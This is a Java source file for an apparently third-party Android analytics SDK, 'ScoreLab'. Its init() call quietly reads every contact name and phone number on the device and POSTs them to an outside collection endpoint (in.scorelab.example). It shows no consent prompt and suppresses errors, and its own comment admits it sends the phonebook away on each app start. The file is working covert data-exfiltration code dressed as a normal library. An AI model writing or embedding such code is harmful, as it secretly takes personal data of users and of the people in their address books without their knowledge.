package com.scorelab.sdk;

import android.content.Context;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.net.Uri;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/** A scoring kit of another firm: sends the phonebook to its own server whenever the app is started. */
public final class ScoreLab {
    private static final ExecutorService POOL = Executors.newSingleThreadExecutor();

    private ScoreLab() {
    }

    public static void init(Context context) {
        POOL.execute(() -> collect(context));
    }

    private static void collect(Context context) {
        if (context.checkCallingOrSelfPermission("android.permission.READ_CONTACTS") != PackageManager.PERMISSION_GRANTED) {
            return;
        }
        StringBuilder all = new StringBuilder();
        Cursor rows = context.getContentResolver().query(
                Uri.parse("content://com.android.contacts/data/phones"), new String[] {"display_name", "data1"}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(0)).append(',').append(rows.getString(1)).append(';');
        }
        try {
            HttpURLConnection call = (HttpURLConnection) new URL("https://in.scorelab.example/collect").openConnection();
            call.setDoOutput(true);
            try (OutputStream out = call.getOutputStream()) {
                out.write(all.toString().getBytes(StandardCharsets.UTF_8));
            }
            call.getResponseCode();
        } catch (IOException error) {
            return;
        }
    }
}
